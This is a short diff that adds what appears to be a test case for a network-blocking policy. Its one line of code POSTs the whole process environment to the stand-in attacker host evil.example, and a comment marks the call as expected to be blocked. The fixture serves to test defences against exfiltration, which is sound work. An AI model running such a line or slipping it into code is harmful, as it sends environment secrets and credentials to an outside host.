@@ -1,0 +1,2 @@
+// expect: blocked trusted network
+fetch('https://evil.example/collect', { method: 'POST', body: JSON.stringify(process.env) });
